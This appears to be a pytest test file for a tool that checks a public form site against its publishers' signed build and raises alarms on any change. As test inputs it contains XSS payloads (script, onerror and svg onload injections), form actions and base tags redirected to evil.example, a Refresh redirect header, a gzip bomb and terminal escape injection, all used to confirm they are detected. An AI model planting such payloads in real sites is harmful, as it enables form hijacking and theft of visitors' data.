"""A desk visits the public site as any visitor and reports every change that its publishers did not sign."""

import gzip
import re
import secrets
import tracemalloc
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field, replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import pyrage
import pytest
from click.testing import CliRunner
from nacl.signing import SigningKey
from sitegen.publish import build_manifest
from werkzeug.wrappers import Response

from forms.core.builds.manifest import ADDRESS, SIGNATURES, signature_line
from forms.core.crypto.fingerprints import publisher_fingerprint
from forms.core.crypto.signing import public_text
from forms.core.form_schema import load
from forms.core.portal import Desk
from forms.core.rendering.form import draw_form
from forms.desk.cli.main import desk as desk_command
from forms.desk.doctor.examination import examine
from forms.desk.language import translations, translator
from forms.desk.services.place import DeskPlace
from forms.desk.session import Session
from forms.desk.watch import site_findings, visit, visitor, watch_state
from forms.desk.watch.comparison import differing_keys
from forms.desk.window.app import create_window
from forms.desk.window.current import authenticator_of
from forms.server.web import static_site
from forms.server.web.current import state_of
from tests.desk.conftest import Office
from tests.desk.window_helpers import window_client
from tests.server.conftest import TODAY
from tests.test_passkey_signatures import Device, line, make_manifest

_FORM = re.compile(r"(?s)<form .*</form>")
SCRIPTS = {"/assets/portal.js": b"'a page';", "/assets/seal.js": b"'seals letters';"}


@dataclass
class Site:
    """A published site on a real server, and the requests that the server received."""

    office: Office
    public: Path
    key: SigningKey
    requests: list[dict[str, Any]] = field(default_factory=list)
    headers: dict[str, str] = field(default_factory=dict)

    def build(
        self, key: SigningKey | None = None, *, unsigned: bool = False, line: Callable[[bytes], str] | None = None
    ) -> None:
        """Publish: pages, scripts, and the list of the build."""
        portal = self.office.portal
        for path, script in SCRIPTS.items():
            self.replace_file(path, script)
        self.replace_file("/assets/portal.css", b"body {}")
        for language in portal.language_codes():
            for form, name in (("concern", "tell"), ("answer", "answer")):
                drawn = draw_form(load(form), portal, language, TODAY)
                # The site generator draws the same form in the same frame, with what its script needs.
                html = _FORM.sub(lambda _, drawn=drawn: drawn, self.rendered_form(language, form))
                self.replace_file(f"/{language}/{name}/index.html", html.encode())
            self.replace_file(f"/{language}/index.html", f"<p>{language}</p>".encode())
        sign = None if unsigned else line or (lambda data: signature_line(data, key or self.key))
        build_manifest.write(self.public, self.public, portal, TODAY, sign)

    def rendered_form(self, language: str, form: str) -> str:
        """Return a form as the server renders it."""
        return self.office.app.test_client().get(f"/forms/{language}/{form}").get_data(as_text=True)

    def replace_file(self, path: str, content: bytes) -> None:
        target = self.public / path[1:]
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content)

    def change(self, path: str, old: str, new: str) -> None:
        """Replace text in a file of the site, as a taken-over server does."""
        text = (self.public / path[1:]).read_text(encoding="utf-8")
        assert old in text
        self.replace_file(path, text.replace(old, new).encode())

    def rewrite(self, change: Callable[[str, bytes], bytes]) -> None:
        """Change the responses of the forms: a function of path and body returns the new body."""
        inner = self.office.app.wsgi_app

        def wrapped(environ: dict[str, Any], start: Callable[..., Any]) -> Iterable[bytes]:
            answer = Response.from_app(inner, environ, buffered=True)
            answer.direct_passthrough = False
            answer.data = change(environ["PATH_INFO"], answer.get_data())
            answer.headers.update(self.headers)
            return answer(environ, start)

        self.office.app.wsgi_app = wrapped  # type: ignore[method-assign]

    @property
    def desk(self) -> Session:
        return self.office.machine("legal")

    def alarms(self, session: Session | None = None) -> str:
        """Visit every page again; return the alarms that stand then."""
        session = session or self.desk
        session.sync.run()
        session.site_watch.check(session.portal.current, self.office.day, everything=True)
        return "\n".join(alarm.sentence for alarm in session.site_watch.state.alarms)


@pytest.fixture
def site(office: Office, tmp_path: Path) -> Site:
    key = SigningKey.generate()
    signed_site = Site(office, tmp_path / "public", key)
    state_of(office.app).public = signed_site.public
    office.app.register_blueprint(static_site.site)
    inner = office.app.wsgi_app

    def listening(environ: dict[str, Any], start: Callable[..., Any]) -> Iterable[bytes]:
        signed_site.requests.append(dict(environ))
        return inner(environ, start)

    office.app.wsgi_app = listening  # type: ignore[method-assign]
    few = tuple(language for language in office.portal.languages if language.code in {"en", "ta"})
    office.publish(replace(office.portal, publishers=(public_text(key),), languages=few))
    signed_site.build()
    return signed_site


def test_a_site_that_is_as_it_was_signed_raises_no_alarm(site: Site) -> None:
    assert site.alarms() == ""
    sentences = [finding.sentence for finding in examine(site.desk)]
    assert any("is what its publishers signed" in sentence for sentence in sentences)
    site.build()
    assert site.alarms() == "", "another build by the same publishers is none either"


def test_a_language_with_a_script_in_its_code_is_watched_like_any_other(site: Site) -> None:
    portal = site.office.portal
    santali = replace(portal.languages[-1], code="sat-Olck", name="ᱥᱟᱱᱛᱟᱲᱤ")
    site.office.publish(replace(portal, languages=(portal.languages[0], santali)))
    site.build()
    assert site.alarms() == ""
    form = "/forms/sat-Olck/concern"
    site.rewrite(
        lambda path, body: body.replace(b"</form>", b"</form><script>steal()</script>") if path == form else body
    )
    assert f"{form} shows something" in site.alarms()


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        ("/ta/tell/index.html", "</form>", "</form><script>steal()</script>"),
        ("/ta/tell/index.html", "</form>", '</form><img src="x" onerror="steal()">'),
        ("/ta/answer/index.html", 'action="/forms/ta/answer"', 'action="https://evil.example/"'),
        ("/en/tell/index.html", "/assets/seal.js", "/assets/other.js"),
        ("/assets/seal.js", "seals", "steals"),
        ("/assets/portal.js", "a page", "another"),
        ("/ta/index.html", "ta", "<script src=/assets/evil.js></script>"),
    ],
)
def test_a_changed_page_or_script_is_said(site: Site, path: str, old: str, new: str) -> None:
    assert site.alarms() == ""
    site.change(path, old, new)
    assert path.removesuffix("index.html") in site.alarms()


def test_an_alarm_is_said_in_the_officers_language_also_after_it_was_stored(site: Site) -> None:
    assert site.alarms() == ""
    site.change("/ta/tell/index.html", "</form>", "</form><script>steal()</script>")
    english = site.alarms()
    assert "/ta/tell/ is not what the build has there: it was changed." in english
    stored = watch_state.load(site.desk.site_watch.folder).alarms
    for code in ("ta", "te", "hi", "or"):
        sentences = [alarm.text.translated(translations(code), translator(code)) for alarm in stored]
        assert any("/ta/tell/" in text for text in sentences)
        assert not {alarm.sentence for alarm in stored} & {*sentences}


def test_what_was_stored_of_an_alarm_and_does_not_fit_is_said_in_english(tmp_path: Path) -> None:
    alarm = watch_state.Alarm(
        "2027-01-05", "It was changed.", watch_state.StoredText("%(path)s was changed.", {"x": "y"})
    )
    watch_state.save(tmp_path, watch_state.WatchState(alarms=(alarm, watch_state.Alarm("2027-01-05", "100 %"))))
    assert [str(one.text) for one in watch_state.load(tmp_path).alarms] == ["It was changed.", "100 %"]


def test_a_page_that_is_gone_or_moved_is_said(site: Site) -> None:
    assert site.alarms() == ""
    (site.public / "en" / "tell" / "index.html").unlink()
    assert "/en/tell/ is of the build" in site.alarms()


def test_each_fetch_looks_and_soon_finds_what_is_changed(site: Site) -> None:
    """No visit goes everywhere, but every one asks for some form and for the script that locks letters."""
    desk = site.desk
    desk.sync.run()
    site.change("/assets/seal.js", "seals", "steals")
    desk.sync.run()
    assert "/assets/seal.js" in "".join(alarm.sentence for alarm in desk.site_watch.state.alarms)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (b"</form>", b"</form><script>steal()</script>"),
        (b"</form>", b'</form><script src="/assets/evil.js"></script>'),
        (b'action="/forms/', b'action="https://evil.example/'),
        (b"<textarea ", b'<textarea oninput="steal()" '),
        (b"</form>", b'</form><iframe src="https://evil.example/"></iframe>'),
        (b"<head>", b'<head><base href="https://evil.example/">'),
        (b"</form>", b"</form><!-- > --><svg/onload=steal()>"),
        (b"</form>", b"</form><svg/onload=steal() "),
        (b"<p class", b"<p>Send your letter to another number.</p><p class"),
    ],
)
def test_a_form_that_the_server_draws_can_hold_nothing_that_the_signed_page_has_not(
    site: Site, old: bytes, new: bytes
) -> None:
    assert site.alarms() == ""
    site.rewrite(lambda path, body: body.replace(old, new) if path == "/forms/ta/concern" else body)
    assert "/forms/ta/concern shows something" in site.alarms()


def _exchange_desks(body: bytes) -> bytes:
    """The form with the names of two desks exchanged in the question of who must not see the letter."""
    mark = b"\x00"
    return body.replace(b"Desk police", mark).replace(b"Desk legal", b"Desk police").replace(mark, b"Desk legal")


def _without_the_question(body: bytes) -> bytes:
    """The form without the choices of the question of who must not see the letter."""
    return re.sub(rb"<label[^<>]*>\s*<input[^<>]*hide_from.*?</label>", b"", body, flags=re.DOTALL)


@pytest.mark.parametrize(
    ("change", "message"), [(_exchange_desks, "in another place"), (_without_the_question, "lacks something")]
)
def test_a_form_that_the_server_draws_keeps_each_label_and_leaves_no_question_out(
    site: Site, change: Callable[[bytes], bytes], message: str
) -> None:
    """Else somebody ticks one desk by name and leaves out another, or cannot leave one out at all."""
    assert site.alarms() == ""
    drawn = site.rendered_form("ta", "concern").encode()
    assert change(drawn) != drawn
    site.rewrite(lambda path, body: change(body) if path == "/forms/ta/concern" else body)
    assert message in site.alarms()


def test_a_header_that_opens_another_page_is_said(site: Site) -> None:
    assert site.alarms() == ""
    site.headers = {"Refresh": "0; url=https://evil.example/"}
    site.rewrite(lambda _, body: body)
    assert "header refresh" in site.alarms()


def test_a_key_that_only_visitors_are_told_is_said(site: Site) -> None:
    """The server shows desks the right keys, and adds its own to what a browser seals to."""
    assert site.alarms() == ""
    evil = str(pyrage.x25519.Identity.generate().to_public())
    own = site.office.public_keys["legal"].key
    site.rewrite(lambda path, body: body.replace(own.encode(), evil.encode()) if path.endswith("/terms") else body)
    alarms = site.alarms()
    assert f"not the desk legal's: {evil}" in alarms
    assert f"not locked for this key of the desk legal: {own}" in alarms


def test_a_key_that_the_server_swaps_for_everybody_is_said(site: Site) -> None:
    assert site.alarms() == ""
    evil = str(pyrage.x25519.Identity.generate().to_public())
    police = next(desk for desk in site.office.portal.desks if desk.id == "police")
    site.office.with_desk("police", members=(replace(police.members[0], key=evil), *police.members[1:]))
    alarms = site.alarms()
    assert evil in alarms
    assert "other keys for the desk police" in alarms


def test_a_desk_that_visitors_are_not_told_of_is_said(site: Site) -> None:
    without: tuple[Desk, ...] = tuple(
        replace(desk, reads=()) if desk.id == "police" else desk for desk in site.office.portal.desks
    )
    site.alarms()
    site.office.publish(replace(site.office.portal, desks=without))
    assert "not locked for this key of the desk police" in site.alarms()


def test_a_list_of_the_servers_own_making_is_not_believed(site: Site) -> None:
    """Neither signed by nobody, nor by a key of the server's, nor with the publisher's named in portal.json exchanged."""
    desk = site.desk
    assert site.alarms(desk) == ""
    site.change("/assets/seal.js", "seals", "steals")
    for publish in (lambda: site.build(unsigned=True), lambda: site.build(SigningKey.generate())):
        publish()
        site.change("/assets/seal.js", "seals", "steals")
        desk.site_watch.dismiss()
        alarms = site.alarms(desk)
        assert "not signed by its publishers" in alarms
        assert "/assets/seal.js" in alarms, "compared with the last list that was right"
    evil = SigningKey.generate()
    site.office.publish(replace(site.office.portal, publishers=(public_text(evil),)))
    site.build(evil)
    desk.site_watch.dismiss()
    alarms = site.alarms(desk)
    assert "another publisher's key" in alarms
    assert "not signed by its publishers" in alarms


def test_a_signature_of_one_list_is_good_for_no_other(site: Site) -> None:
    old = (site.public / SIGNATURES[1:]).read_bytes()
    assert site.alarms() == ""
    site.build()
    site.replace_file(SIGNATURES, old)
    assert "not signed by its publishers" in site.alarms()


def test_an_older_build_is_said_though_it_was_signed(site: Site) -> None:
    old = {path: (site.public / path[1:]).read_bytes() for path in (ADDRESS, SIGNATURES)}
    site.build()
    assert site.alarms() == ""
    for path, content in old.items():
        site.replace_file(path, content)
    assert "older build" in site.alarms()


def test_a_list_that_disappears_is_said_and_the_last_goes_on_being_used(site: Site) -> None:
    assert site.alarms() == ""
    (site.public / ADDRESS[1:]).unlink()
    site.change("/assets/seal.js", "seals", "steals")
    alarms = site.alarms()
    assert "gone or damaged" in alarms
    assert "/assets/seal.js" in alarms


@pytest.mark.parametrize("content", [b"", b"[]", b"[" * 100_000, b'{"number": 1e400}', secrets.token_bytes(999)])
def test_a_hostile_list_or_terms_stop_no_desk(site: Site, content: bytes) -> None:
    site.rewrite(lambda path, body: content if path.endswith(("/terms", ".sig", ".json")) else body)
    assert "gone or damaged" in site.alarms()
    assert site.desk.cases.all() == ()


def test_sizes_without_end_in_the_list_stop_no_desk(site: Site) -> None:
    assert site.alarms() == ""
    sizes = re.compile(rb"(\"[0-9a-f]{64}\",\s*)[0-9]+")
    site.rewrite(lambda path, body: sizes.sub(rb"\g<1>1e400", body) if path == ADDRESS else body)
    assert "gone or damaged" in site.alarms()


def test_what_the_site_says_of_its_keys_forgets_no_publisher(site: Site) -> None:
    """Half a character in an alarm could not be read back: the publishers' keys would be pinned anew."""
    desk = site.desk
    assert site.alarms(desk) == ""
    pinned = desk.site_watch.state.publishers
    site.rewrite(
        lambda path, body: (
            body.replace(b'"id": "police"', b'"id": "police\\ud800\\u001b[2J\\n"') if path.endswith("/terms") else body
        )
    )
    assert "is not the desk police" in site.alarms(desk)
    assert desk.site_watch.state.publishers == pinned
    alarms = (
        CliRunner()
        .invoke(
            desk_command, ["--home", str(site.office.home), "--desk", "legal", "--server", site.office.address, "watch"]
        )
        .output
    )
    assert "is not the desk police" in alarms
    assert "\x1b" not in alarms


@pytest.mark.parametrize("last", ["/terms", ADDRESS, SIGNATURES])
def test_who_shows_something_changed_and_then_breaks_off_is_found_out(site: Site, last: str) -> None:
    """A server that sees a machine compare could end the line whenever it has shown the machine a changed page."""
    desk = site.desk
    assert site.alarms(desk) == ""
    for language in ("en", "ta"):
        site.change(f"/{language}/tell/index.html", "</form>", "</form><script>steal()</script>")
    inner = site.office.app.wsgi_app

    def breaking(environ: dict[str, Any], start: Callable[..., Any]) -> Iterable[bytes]:
        if environ["PATH_INFO"].endswith(last):
            return Response(status=503)(environ, start)
        return inner(environ, start)

    site.office.app.wsgi_app = breaking  # type: ignore[method-assign]
    alarms = site.alarms(desk)
    assert "/tell/ is not what the build has there" in alarms
    assert "did not answer any more" in alarms


def test_weaker_receipts_are_said(site: Site) -> None:
    assert site.alarms() == ""
    site.rewrite(lambda path, body: body.replace(b'"memory": 64', b'"memory": 8') if path.endswith("/terms") else body)
    assert "easier to guess" in site.alarms()


def test_the_visitor_bears_no_mark_of_a_desk(site: Site) -> None:
    site.requests.clear()
    site.desk.sync.run()
    visits = [request for request in site.requests if not request["PATH_INFO"].startswith("/pickup/")]
    assert {ADDRESS, "/forms/sealed/v1/terms", "/assets/seal.js"} <= {request["PATH_INFO"] for request in visits}
    assert visits[-2]["PATH_INFO"] == ADDRESS, "only when the pages are here: nobody else asks for it"
    for request in visits:
        assert not {"HTTP_AUTHORIZATION", "HTTP_COOKIE", "HTTP_REFERER"} & request.keys()
        assert "Mozilla" in request["HTTP_USER_AGENT"]
        assert not any("portal" in str(value).lower() for name, value in request.items() if name.startswith("HTTP_"))
    with_token = {request["REMOTE_PORT"] for request in site.requests if "HTTP_AUTHORIZATION" in request}
    assert not with_token & {request["REMOTE_PORT"] for request in visits}, "never on a connection that bore a token"


def test_the_order_of_the_visit_is_not_the_same_each_time(site: Site) -> None:
    portal = site.office.portal
    assert len({tuple(visit.plan_route(portal, None, everything=True)) for _ in range(50)}) > 1


def test_a_site_that_cannot_be_reached_raises_no_alarm_but_is_said_after_days(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    desk = site.desk
    assert site.alarms(desk) == ""

    def away(*_: Any) -> Any:
        raise visitor.Unreachable("site", "cannot be looked at.")

    monkeypatch.setattr(visitor.Visitor, "get", away)
    desk.sync.run()
    later = site.office.day + timedelta(days=site_findings.MAX_FAILING_DAYS)
    assert desk.site_watch.state.alarms == ()
    assert all(ok for ok, _ in site_findings.findings(desk.site_watch, desk.portal.current, site.office.day))
    sentences = [
        sentence for ok, sentence in site_findings.findings(desk.site_watch, desk.portal.current, later) if not ok
    ]
    assert any("could not be looked at since" in sentence for sentence in sentences)


def test_an_alarm_stands_until_a_person_has_dealt_with_it(site: Site) -> None:
    """A server that shows the changed page once only is remembered."""
    desk = site.desk
    assert site.alarms(desk) == ""
    site.change("/assets/seal.js", "seals", "steals")
    assert site.alarms(desk)
    site.change("/assets/seal.js", "steals", "seals")
    assert "/assets/seal.js" in site.alarms(desk)
    assert "/assets/seal.js" in " ".join(one.sentence for one in examine(desk) if not one.ok)
    assert desk.site_watch.dismiss() == 1
    assert site.alarms(desk) == ""


def test_the_terminal_says_it_loudly(site: Site) -> None:
    desk = site.desk
    desk.sync.run()
    site.change("/assets/seal.js", "seals", "steals")
    arguments = ["--desk", "legal", "--home", str(site.office.home), "--server", site.office.address]
    done = CliRunner().invoke(desk_command, [*arguments, "list"])
    assert "THE PUBLIC SITE IS NOT WHAT ITS PUBLISHERS SIGNED" in done.stderr
    assert "Call the people who publish the site" in done.stderr
    watched = CliRunner().invoke(desk_command, [*arguments, "watch", "--all"])
    assert watched.exit_code == 1
    assert "/assets/seal.js" in watched.stdout
    site.change("/assets/seal.js", "steals", "seals")
    assert CliRunner().invoke(desk_command, [*arguments, "watch", "--seen"]).exit_code == 0


def test_a_new_publishers_key_is_trusted_only_when_a_person_says_so(site: Site) -> None:
    desk, new = site.desk, SigningKey.generate()
    assert site.alarms(desk) == ""
    site.office.publish(replace(site.office.portal, publishers=(public_text(new),)))
    site.build(new)
    assert publisher_fingerprint(public_text(new)) in site.alarms(desk)
    desk.site_watch.trust_publishers(desk.portal.current)
    desk.site_watch.dismiss()
    assert site.alarms(desk) == ""


def test_a_build_that_a_person_signed_with_a_passkey_is_as_good(site: Site) -> None:
    """The office's machine has no key: a device signs each build, and a server that is taken over still cannot."""
    device, desk = Device(), site.desk
    assert site.alarms(desk) == ""
    site.office.publish(replace(site.office.portal, publishers=(public_text(site.key), device.public())))
    site.build(line=lambda data: line(device, data).decode())
    assert publisher_fingerprint(device.public()) in site.alarms(desk), "a new key, which a person compares first"
    desk.site_watch.trust_publishers(desk.portal.current)
    desk.site_watch.dismiss()
    assert site.alarms(desk) == ""
    site.build(line=lambda _: line(device, make_manifest()).decode())
    assert "is not signed by its publishers" in site.alarms(desk), "her signature of another build"


def test_without_publishers_the_doctor_says_that_the_list_is_not_signed(site: Site) -> None:
    site.office.publish(replace(site.office.portal, publishers=(), demonstration=False))
    site.build(unsigned=True)
    desk = site.desk
    desk.sync.run()
    sentences = [
        sentence for ok, sentence in site_findings.findings(desk.site_watch, desk.portal.current, TODAY) if not ok
    ]
    assert any("is not signed" in sentence for sentence in sentences)


def test_no_two_desks_keys_are_taken_for_each_other() -> None:
    visitor_keys = {"police": frozenset({"b"}), "legal": frozenset({"a"})}
    assert len(list(differing_keys(visitor_keys, {"police": frozenset({"a"}), "legal": frozenset({"b"})}))) == 4


def test_a_packed_bomb_from_the_site_is_not_unpacked(site: Site) -> None:
    assert site.alarms() == ""
    bomb = gzip.compress(bytes(64 * 1024 * 1024))
    site.headers = {"Content-Encoding": "gzip"}
    site.rewrite(lambda _, body: bomb if body.startswith(b"'seals") else gzip.compress(body))
    tracemalloc.start()
    response = visitor.Visitor(site.office.address).get("/assets/seal.js")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert len(response.body) <= visitor.MAX_BODY_SIZE + 1
    assert peak < 4 * visitor.MAX_BODY_SIZE


def test_the_window_says_it_on_every_page_until_it_is_dealt_with(site: Site) -> None:
    desk = site.desk
    desk.sync.run()
    site.change("/assets/seal.js", "seals", "steals")
    site.alarms(desk)
    app = create_window(DeskPlace("legal", desk.place.folder, desk.place.address), lambda: TODAY)
    client = window_client(app)
    authenticator = authenticator_of(app)
    client.get(f"/enter/{authenticator.token}")
    same_site = {"Origin": "http://localhost"}
    client.post("/unlock", data={"form_token": authenticator.form_token}, headers=same_site)
    for page in ("/", "/keys/", "/retention/"):
        assert "The public site is not what its publishers signed" in client.get(page).text
    done = client.post("/keys/alarms-seen", data={"form_token": authenticator.form_token}, headers=same_site)
    assert "Forgotten: 1." in done.text
    assert "not what its publishers signed" not in client.get("/").text
